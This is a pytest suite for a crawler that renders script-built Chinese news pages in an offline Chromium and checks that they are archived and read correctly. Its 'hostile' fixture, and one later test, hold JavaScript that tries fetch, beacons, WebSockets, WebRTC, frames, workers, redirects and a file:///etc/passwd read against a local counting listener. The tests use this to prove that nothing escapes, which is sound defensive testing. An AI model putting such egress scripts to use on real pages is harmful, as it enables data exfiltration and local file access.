"""A page whose text only scripts bring: asked for by Scrapy, rendered by Chromium that never speaks to the network."""

from __future__ import annotations

import json
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

import pytest
from loopback import Answer, Crawled, Page, Tiny, WebServer, article, listing_page, site_of
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import sync_playwright

from archive.capture import RENDERED, Capture, Role
from archive.fixity import verify
from archive.paths import DataPaths
from archive.reader import ArchiveReader
from archive.store import Store
from crawler.environment import IN_TESTS
from crawler.errors import NoBrowser
from crawler.rendering import MARK, check_browser, find_chromium, launch_options
from crawler.source import load_source

READ = {"ITEM_PIPELINES": {"crawler.item_pipeline.ExtractionPipeline": 0}}
BROWSER = "browser = true"
SAYS = (
    "2018年1月15日至18日，中共中央宣介团访问老挝，向老挝各界宣介中国共产党第十九次全国代表大会精神。"
    "宣介团由中联部副部长王某某率领，访问期间举行了专题宣介会，并同老挝有关方面举行了交流。"
)
SCRIPT = """
fetch("/data/1.json").then(answer => answer.json()).then(told => {
  document.title = told.title;
  const title = document.createElement("h1"); title.textContent = told.title; document.body.append(title);
  for (const words of told.paragraphs) {
    const p = document.createElement("p"); p.textContent = words; document.body.append(p);
  }
});
"""
DATA = json.dumps({"title": "中共中央宣介团访问老挝", "paragraphs": [SAYS, SAYS.replace("老挝有关方面", "当地媒体")]})
EMPTY = (
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>加载中</title></head>'
    '<body><script src="/app.js"></script></body></html>'
)


@pytest.fixture(autouse=True)
def _chromium() -> None:
    if find_chromium() is None:
        pytest.fail("this machine has no Chromium: apt-get install chromium, or set XUANJIE_CHROMIUM")


def site(page: Answer, numbers: Sequence[int] = (1,)) -> dict[str, Page]:
    """A site of so many articles, the first of which is `page`."""
    pages = site_of([list(numbers)])
    pages[article(1)] = page
    pages["/app.js"] = Answer(SCRIPT, headers={"Content-Type": "application/javascript"})
    pages["/data/1.json"] = Answer(DATA, headers={"Content-Type": "application/json"})
    return pages


def crawled(folder: Path, server: WebServer, *, more: str = BROWSER, **overrides: object) -> Crawled:
    return Tiny(folder, server, more=more, overrides=READ | overrides).crawl()


def captures(data: Path, path: str) -> list[Capture]:
    with ArchiveReader(data / "archive") as reader:
        return [c for c in reader.captures() if c.url.endswith(path)]


def said(data: Path, path: str = "") -> list[str]:
    """How the articles at this path were decided."""
    with Store(DataPaths(data).store) as store:
        return [json.loads(entry.text)["decision"]["status"] for entry in store.entries() if entry.url.endswith(path)]


def issues(data: Path) -> list[str]:
    with Store(DataPaths(data).store) as store:
        return [code for code, _ in store.issue_counts()]


def written(more: str) -> Answer:
    """A page with an article of its own and a script."""
    return Answer(
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>标题</title></head><body><p>{SAYS}</p>'
        f"<p>{SAYS}</p><p id=told>nothing</p>"
        f"<script>const told = document.getElementById('told');{more}</script></body></html>"
    )


class Stranger:
    """A host that counts who so much as connects to it, over TCP or UDP."""

    def __enter__(self) -> Stranger:
        self._tcp = socket.create_server(("127.0.0.3", 0), backlog=64)
        self._tcp.setblocking(False)
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.3", self.port))
        self._udp.setblocking(False)
        return self

    def __exit__(self, *_: object) -> None:
        self._tcp.close()
        self._udp.close()

    def calls(self) -> list[object]:
        """Who called: ("TCP", bytes) or ("UDP", bytes)."""
        found: list[object] = []
        with suppress(BlockingIOError):
            while True:
                connection, _ = self._tcp.accept()
                connection.settimeout(1)
                with connection, suppress(OSError):
                    found.append(("TCP", connection.recv(2048)))
        with suppress(BlockingIOError):
            while True:
                found.append(("UDP", self._udp.recvfrom(2048)[0]))
        return found


def hostile(stranger: Stranger) -> str:
    """A script that tries every way out that a page has."""
    there = f"127.0.0.3:{stranger.port}"
    return f"""
    const at = "http://{there}/";
    const add = (name, facts) => document.body.append(Object.assign(document.createElement(name), facts));
    const tries = [
      () => fetch(at + "fetch", {{mode: "no-cors"}}), () => fetch(at + "post", {{method: "POST", mode: "no-cors"}}),
      () => navigator.sendBeacon(at + "beacon", "x"), () => new WebSocket("ws://{there}/socket"),
      () => new EventSource(at + "events"), () => {{ new Image().src = at + "image.png"; }},
      () => {{ const x = new XMLHttpRequest(); x.open("GET", at + "xhr"); x.send(); }},
      () => add("script", {{src: at + "x.js"}}), () => add("iframe", {{src: at + "frame"}}),
      () => add("link", {{rel: "preconnect", href: at}}), () => add("link", {{rel: "prefetch", href: at + "p"}}),
      () => add("link", {{rel: "stylesheet", href: at + "x.css"}}), () => add("video", {{src: at + "v.mp4"}}),
      () => add("object", {{data: at + "o"}}), () => window.open(at + "window"),
      () => new Worker(URL.createObjectURL(new Blob([`fetch("${{at}}worker", {{mode: "no-cors"}})`]))),
      () => navigator.serviceWorker.register("/service.js"), () => import(at + "module.js"),
      () => {{ const c = new RTCPeerConnection({{iceServers: [{{urls: "stun:{there}"}}]}});
               c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o)); }},
      () => fetch("http://localhost:{stranger.port}/name"), () => fetch("file:///etc/passwd"),
      () => fetch("/redirected"), () => alert("hello"), () => confirm("hello"),
      () => {{ document.cookie = "a=b"; }},
    ];
    let made = 0;
    for (const one of tries) {{
      try {{ const p = one(); made += 1; if (p && p.catch) p.catch(() => {{}}); }} catch (why) {{}}
    }}
    told.textContent = "tried " + made;
    setTimeout(() => {{ location.href = at + "away"; }}, 50);
    """


@dataclass(frozen=True)
class Rendered:
    """What one crawl of pages with scripts left; its articles have a number each."""

    done: Crawled
    server: WebServer
    calls: list[object]  # who called the stranger

    def article(self, number: int) -> str:
        """The page as Chromium left it."""
        (rendered,) = [c for c in captures(self.done.data, article(number)) if c.via == RENDERED]
        with ArchiveReader(self.done.data / "archive") as reader:
            return reader.snapshot(rendered.snapshot_id).html


WRITTEN, HOSTILE, COUNTS, LOOKS, HALF = 1, 2, 3, 4, 5
FORBIDDEN, ENDLESS, AFTER_IT, CHALLENGE = 1, 2, 3, 4


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Rendered:
    """A crawl in which every page is rendered: each start of a Chromium takes seconds, so that they share one."""
    pages = site(Answer(EMPTY), numbers=[WRITTEN, HOSTILE, COUNTS, LOOKS, HALF])
    with Stranger() as stranger:
        there = f"http://127.0.0.3:{stranger.port}/redirected"
        pages["/redirected"] = Answer(status=302, headers={"Location": there})
        pages[article(HOSTILE)] = written(hostile(stranger))
        pages[article(COUNTS)] = written(
            "document.cookie = 'seen=1; max-age=9999'; localStorage.seen = '1'; told.textContent = 'cookies: '"
        )
        pages[article(LOOKS)] = written(
            "told.textContent = 'cookies: ' + document.cookie + ' ' + localStorage.length + ' kept'"
        )
        pages[article(HALF)] = written(r"told.textContent = 'cut \ud83d end'")
        with WebServer(pages) as server:
            folder = tmp_path_factory.mktemp("good")
            done = crawled(folder, server, XUANJIE_RENDER_SECONDS=28.0, XUANJIE_RETRY_DELAYS=[])
        return Rendered(done, server, stranger.calls())


@pytest.fixture(scope="module")
def poor(tmp_path_factory: pytest.TempPathFactory) -> Rendered:
    """A crawl of what cannot be rendered, whose list is written by scripts."""
    numbers = [FORBIDDEN, ENDLESS, AFTER_IT, CHALLENGE]
    pages = site(Answer(EMPTY), numbers=numbers)
    rows = listing_page(numbers).body
    assert isinstance(rows, str)
    pages["/a/index.html"] = Answer(
        f"<html><body><script>document.body.innerHTML = {json.dumps(rows)}.replace(/.*<body>/, '')</script></body>"
    )
    pages["/robots.txt"] = Answer("User-agent: *\nDisallow: /data/\n", headers={"Content-Type": "text/plain"})
    pages[article(ENDLESS)] = written("while (true) {}")
    pages[article(AFTER_IT)] = written("told.textContent = 'whole'")
    pages[article(CHALLENGE)] = Answer(
        "<html><script>var $_ts=1; document.body.innerText = 'in';</script></html>", status=412
    )
    with WebServer(pages) as server:
        folder = tmp_path_factory.mktemp("poor")
        done = crawled(folder, server, XUANJIE_RENDER_SECONDS=20.0, XUANJIE_RETRY_DELAYS=[])
    return Rendered(done, server, [])


def test_a_page_that_scripts_write_is_rendered_archived_and_read(good: Rendered) -> None:
    done = good.done
    assert done.status == 0, (done.source, done.stderr)
    sent, rendered = sorted(captures(done.data, article(WRITTEN)), key=lambda c: c.via == RENDERED)
    assert (sent.role, sent.via) == (Role.OTHER, "live")
    assert (rendered.role, rendered.via, rendered.outcome.value) == (Role.ARTICLE, RENDERED, "ok")
    assert sent.payload_sha256 != rendered.payload_sha256
    with ArchiveReader(done.data / "archive") as reader:
        assert reader.snapshot(sent.snapshot_id).body == EMPTY.encode()
        assert SAYS in reader.snapshot(rendered.snapshot_id).html
        mark = dict(reader.http(rendered.snapshot_id).headers)[MARK]
    version = subprocess.run([find_chromium() or "", "--version"], capture_output=True, text=True, check=True).stdout
    assert mark.split(";")[0].removeprefix("Chromium/") in version
    assert mark.endswith(f"from={sent.snapshot_id}")
    assert verify(done.data / "archive") == []
    (decided,) = said(done.data, article(WRITTEN))
    assert decided == "kept"
    assert issues(done.data) == ["date_from_url", "replacement_character"]  # the latter of the page HALF
    # what scripts wanted was asked for with our name, and is kept
    agents = {hit.headers["User-Agent"].split("/")[0] for hit in good.server.hits}
    assert agents == {"xuanjie"}
    asked = [path for path in good.server.paths() if "/t2020" not in path and path != "/redirected"]
    assert sorted(asked) == ["/a/index.html", "/a/index_1.html", "/app.js", "/data/1.json", "/robots.txt"]
    assert [c.role for c in captures(done.data, "/data/1.json")] == [Role.OTHER]


def test_whatever_a_script_does_no_other_host_hears_of_it(good: Rendered) -> None:
    assert good.calls == []
    assert good.done.outcomes()[article(HOSTILE)] == "ok", good.done.rows()
    html = good.article(HOSTILE)
    assert "tried 2" in html, html[-3000:]
    assert SAYS in html
    (note,) = [note for note in good.done.source["notes"] if note.startswith("what scripts of rendered pages wanted")]
    assert "on other hosts" in note
    assert good.done.status == 0
    assert not any("Cookie" in hit.headers for hit in good.server.hits)
    assert "/service.js" not in good.server.paths()


def test_a_page_starts_without_the_cookies_of_the_one_before(good: Rendered) -> None:
    paths = good.server.paths()
    assert paths.index(article(COUNTS)) < paths.index(article(LOOKS))
    assert "cookies:  0 kept" in good.article(LOOKS)


def test_half_a_character_that_a_script_left_does_not_cost_the_page(good: Rendered) -> None:
    assert good.done.outcomes()[article(HALF)] == "ok"
    assert "cut \ufffd end" in good.article(HALF)


def test_what_robots_txt_forbids_a_script_does_not_get(poor: Rendered) -> None:
    assert "/data/1.json" not in poor.server.paths()
    assert poor.done.outcomes()[article(FORBIDDEN)] == "empty"


def test_a_page_whose_scripts_never_end_times_out_and_the_next_one_is_read(poor: Rendered) -> None:
    assert poor.done.outcomes()[article(ENDLESS)] == "timeout"
    assert "whole" in poor.article(AFTER_IT)
    assert poor.done.status == 3
    with ArchiveReader(poor.done.data / "archive") as reader:
        (attempt,) = [one for one in reader.attempts() if one.url.endswith(article(ENDLESS))]
    assert (attempt.role, attempt.detail) == (Role.ARTICLE, "not rendered in 20 s")


def test_a_script_challenge_is_not_given_to_the_browser(poor: Rendered) -> None:
    assert poor.done.outcomes()[article(CHALLENGE)] == "challenge"
    assert [c.via for c in captures(poor.done.data, article(CHALLENGE))] == ["live"]


def test_a_list_that_scripts_write_leads_to_its_articles(poor: Rendered) -> None:
    assert poor.done.outcomes()[article(AFTER_IT)] == "ok"


def test_without_the_browser_the_same_page_has_no_text_and_says_so(tmp_path: Path) -> None:
    with WebServer(site(Answer(EMPTY))) as server:
        done = crawled(tmp_path, server, more="")
    assert done.outcomes()[article(1)] == "empty"
    assert said(done.data) == []
    assert done.status == 3


@pytest.mark.long
def test_a_page_in_gbk_is_rendered_in_its_characters(tmp_path: Path) -> None:
    html = str(written("told.textContent = '写完了'").body).replace("utf-8", "gb2312").encode("gbk")
    with WebServer(site(Answer(html))) as server:
        done = crawled(tmp_path, server)
    (rendered,) = [c for c in captures(done.data, article(1)) if c.via == RENDERED]
    with ArchiveReader(done.data / "archive") as reader:
        page = reader.snapshot(rendered.snapshot_id)
    assert page.decoded.charset == "utf-8"
    assert SAYS in page.html
    assert "写完了" in page.html


@pytest.mark.long
def test_a_rendered_page_that_says_the_same_again_is_unchanged(tmp_path: Path) -> None:
    with WebServer(site(Answer(EMPTY))) as server:
        tiny = Tiny(tmp_path, server, more=f'{BROWSER}\nrevisit = "0 s"', overrides=dict(READ))
        tiny.crawl()
        again = tiny.crawl()
    assert again.outcomes()[article(1)] == "unchanged"
    assert [c.outcome.value for c in captures(tiny.data, article(1))] in (
        ["ok", "ok", "unchanged", "unchanged"],
        ["ok", "unchanged", "ok", "unchanged"],
    )


def test_a_machine_without_chromium_is_told_so_and_nothing_is_asked(tmp_path: Path) -> None:
    with WebServer(site(Answer(EMPTY))) as server:
        tiny = Tiny(tmp_path, server, more=BROWSER, overrides=dict(READ))
        tiny.folder.mkdir(exist_ok=True)
        without = {"PATH": "/nowhere", "PYTHONPATH": ":".join(sys.path), IN_TESTS: "1"}
        done = subprocess.run(tiny.asked(), capture_output=True, text=True, check=False, env=without)
    assert done.returncode == 2, done.stderr
    assert json.loads(done.stdout)["error"] == (
        "tiny: browser = true, and no chromium, chromium-browser, google-chrome in PATH; nothing was asked for;"
        " apt-get install chromium, or set XUANJIE_CHROMIUM to the program's path"
    )
    assert server.hits == []


def test_with_the_interception_off_the_browser_still_reaches_nobody() -> None:
    with Stranger() as stranger, sync_playwright() as playwright:
        there = f"127.0.0.3:{stranger.port}"
        browser = playwright.chromium.launch(**launch_options())  # type: ignore[arg-type]
        page = browser.new_page()
        page.set_content(
            f"""<img src="http://{there}/1.png"><link rel=preconnect href="http://{there}/"><iframe src="http://{there}/f">
            </iframe><script>
            fetch("http://{there}/fetch", {{mode: "no-cors"}}).catch(() => {{}});
            new WebSocket("ws://{there}/socket");
            const c = new RTCPeerConnection({{iceServers: [{{urls: "stun:{there}"}}]}});
            c.createDataChannel("x");
            c.createOffer().then(o => c.setLocalDescription(o));
            c.onicegatheringstatechange = () => {{ document.title = c.iceGatheringState; }};
            </script>""",
            wait_until="domcontentloaded",
        )
        page.wait_for_function("document.title === 'complete'")
        with pytest.raises(PlaywrightError, match=r"ERR_PROXY_CONNECTION_FAILED|ERR_NAME_NOT_RESOLVED"):
            page.goto(f"http://{there}/away")
        browser.close()
        assert stranger.calls() == []


@pytest.mark.long
def test_a_crawl_that_is_stopped_while_it_renders_ends_and_the_page_is_done_later(tmp_path: Path) -> None:
    with WebServer(site(written("while (true) {}"))) as server:
        tiny = Tiny(tmp_path, server, more=BROWSER, overrides=dict(READ))
        tiny.folder.mkdir(exist_ok=True)
        process = subprocess.Popen(tiny.asked(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        while article(1) not in server.paths():
            time.sleep(0.02)
        time.sleep(2)  # it is in the browser now
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=60) in {0, 3}  # and not the two minutes that a page may take
        server.pages[article(1)] = written("told.textContent = 'whole'")
        done = tiny.crawl()
    assert done.outcomes()[article(1)] == "ok"


def test_a_machine_without_what_drives_the_browser_is_told_so(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with WebServer({}) as server:
        Tiny(tmp_path, server, more=BROWSER).asked()
    source = load_source(tmp_path / "sources" / "tiny.toml")
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    with pytest.raises(NoBrowser, match=r"scrapy-playwright is not installed.*pip install --group browser"):
        check_browser([source])
